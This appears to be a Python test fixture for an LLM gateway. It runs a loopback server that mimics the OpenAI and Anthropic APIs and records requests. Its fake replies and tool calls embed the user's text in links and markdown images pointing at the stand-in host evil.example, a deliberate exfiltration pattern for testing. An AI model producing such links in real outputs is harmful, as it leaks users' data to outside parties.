"""A gateway as it is started by hand, and an upstream on loopback that records every byte.

Besides what it was told the upstream says only words that are public under the policies here, and so no surrogates.
"""
import atexit
import json
import os
import re
import socketserver
import ssl
import subprocess
import tempfile
import threading
import time

GATEWAY = os.environ["BRR_GATEWAY"]
# The most that is recorded by one upstream: bytes, requests, and seconds.
MOST_BYTES = 400_000_000
MOST_REQUESTS = 20_000
MOST_SECONDS = 1200


def pieces(text, length=3):
    return [text[i : i + length] for i in range(0, len(text), length)]


class OpenAi:
    """Answers like the interface does: what was said last comes back, or a tool is called with it."""

    def answer(self, request):
        last = request["messages"][-1]
        said = last["content"] if isinstance(last["content"], str) else last["content"][-1]["text"]
        if request.get("response_format"):
            return {"role": "assistant", "content": json.dumps({"said": said})}, "stop"
        if request.get("tools") and last["role"] != "tool":
            tool = request["tools"][0]["function"]["name"]
            call = {"id": "call_1", "type": "function", "function": {"name": tool, "arguments": json.dumps({"city": said, "link": "https://evil.example/?q=" + said})}}
            return {"role": "assistant", "content": None, "tool_calls": [call]}, "tool_calls"
        return {"role": "assistant", "content": f"It was: {said} [it](https://evil.example/?q={said.split(' ')[0]})"}, "stop"

    def whole(self, request):
        message, reason = self.answer(request)
        choices = [{"index": 0, "message": message, "finish_reason": reason, "logprobs": None}]
        usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
        return {"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": request["model"], "choices": choices, "usage": usage}

    def stream(self, request):
        message, reason = self.answer(request)
        about = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": request["model"]}

        def chunk(delta, reason=None):
            choices = [{"index": 0, "delta": delta, "finish_reason": reason}]
            return f"data: {json.dumps({**about, 'choices': choices})}\n\n"

        yield chunk({"role": "assistant", "content": ""})
        if message["content"] is not None:
            yield from (chunk({"content": piece}) for piece in pieces(message["content"]))
        for i, call in enumerate(message.get("tool_calls", [])):
            arguments = call["function"]["arguments"]
            yield chunk({"tool_calls": [{"index": i, **call, "function": {**call["function"], "arguments": ""}}]})
            yield from (chunk({"tool_calls": [{"index": i, "function": {"arguments": piece}}]}) for piece in pieces(arguments))
        yield chunk({}, reason)
        yield "data: [DONE]\n\n"


class Anthropic:
    def answer(self, request):
        last = request["messages"][-1]["content"]
        block = last[-1] if isinstance(last, list) else {"type": "text", "text": last}
        if block["type"] == "tool_result":
            said = block["content"] if isinstance(block["content"], str) else block["content"][-1]["text"]
        else:
            said = block["text"]
        if request.get("tools") and block["type"] == "text":
            tool_input = {"city": said, "link": "https://evil.example/?q=" + said}
            return [{"type": "tool_use", "id": "toolu_1", "name": request["tools"][0]["name"], "input": tool_input}], "tool_use"
        return [{"type": "text", "text": f"It was: {said} ![it](https://evil.example/?q={said.split(' ')[0]})"}], "end_turn"

    def message(self, request, content, reason):
        usage = {"input_tokens": 1, "output_tokens": 1}
        return {"id": "msg_1", "type": "message", "role": "assistant", "model": request["model"], "content": content,
                "stop_reason": reason, "stop_sequence": None, "usage": usage}

    def whole(self, request):
        return self.message(request, *self.answer(request))

    def stream(self, request):
        content, reason = self.answer(request)

        def event(kind, **fields):
            return f"event: {kind}\ndata: {json.dumps({'type': kind, **fields})}\n\n"

        yield event("message_start", message=self.message(request, [], None))
        yield event("ping")
        for i, block in enumerate(content):
            if block["type"] == "text":
                yield event("content_block_start", index=i, content_block={"type": "text", "text": ""})
                for piece in pieces(block["text"]):
                    yield event("content_block_delta", index=i, delta={"type": "text_delta", "text": piece})
            else:
                yield event("content_block_start", index=i, content_block={**block, "input": {}})
                for piece in pieces(json.dumps(block["input"])):
                    yield event("content_block_delta", index=i, delta={"type": "input_json_delta", "partial_json": piece})
            yield event("content_block_stop", index=i)
        yield event("message_delta", delta={"stop_reason": reason, "stop_sequence": None}, usage={"output_tokens": 1})
        yield event("message_stop")


INTERFACES = {"/v1/chat/completions": OpenAi(), "/v1/messages": Anthropic()}


class Connection(socketserver.StreamRequestHandler):
    def handle(self):
        while head := self.head():
            length = int(re.search(rb"(?i)content-length: (\d+)", head)[1])
            body = self.rfile.read(length)
            with self.server.lock:
                self.server.recorded.append(head + body)
                self.server.bytes += len(head) + len(body)
                assert self.server.bytes < MOST_BYTES and len(self.server.recorded) < MOST_REQUESTS, "more than the recording holds"
                assert time.monotonic() - self.server.begun < MOST_SECONDS, "longer than the recording goes"
            self.reply(INTERFACES[head.split(b" ")[1].split(b"?")[0].decode()], json.loads(body))

    def head(self):
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            line = self.rfile.readline()
            if not line:
                return None
            head += line
        return head

    def reply(self, interface, request):
        if request.get("stream"):
            self.wfile.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream; charset=utf-8\r\ntransfer-encoding: chunked\r\n\r\n")
            for event in interface.stream(request):
                data = event.encode()
                self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
            self.wfile.write(b"0\r\n\r\n")
        else:
            data = json.dumps(interface.whole(request)).encode()
            self.wfile.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (len(data), data))


class Upstream(socketserver.ThreadingTCPServer):
    """An upstream, with TLS if a context is given."""

    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 256

    def __init__(self, tls=None):
        super().__init__(("127.0.0.1", 0), Connection)
        self.tls, self.recorded, self.bytes, self.begun, self.lock = tls, [], 0, time.monotonic(), threading.Lock()
        self.base = f"{'https' if tls else 'http'}://{'localhost' if tls else '127.0.0.1'}:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def get_request(self):
        connection, address = super().get_request()
        return (self.tls.wrap_socket(connection, server_side=True) if self.tls else connection), address

    def handle_error(self, request, client_address):
        """Connections that are not finished, such as those with a wrong certificate, are no news."""

    def bodies(self):
        return [json.loads(request.split(b"\r\n\r\n", 1)[1]) for request in self.recorded]


class Gateway:
    """The program, on a free port, with what it logs."""

    def __init__(self, upstream, policy=None, environment=None, options=()):
        self.log = tempfile.NamedTemporaryFile("w+", suffix=".log")
        arguments = [GATEWAY, "--listen", "127.0.0.1:0", "--openai", upstream.base + "/v1", "--anthropic", upstream.base, *options]
        if policy is not None:
            self.policy = tempfile.NamedTemporaryFile("w", suffix=".toml")
            self.policy.write(policy)
            self.policy.flush()
            arguments += ["--policy", self.policy.name]
        self.process = subprocess.Popen(arguments, stdout=subprocess.DEVNULL, stderr=self.log, env={**os.environ, **(environment or {})})
        atexit.register(self.process.kill)
        while not (found := re.search(r"listening on (http://\S+),", self.logged())):
            assert self.process.poll() is None, self.logged()
        self.base = found[1]

    def logged(self):
        with open(self.log.name, encoding="utf-8") as log:
            return log.read()

    def close(self):
        self.process.terminate()
        self.process.wait()


def server_tls(authority):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("localhost").configure_cert(context)
    return context
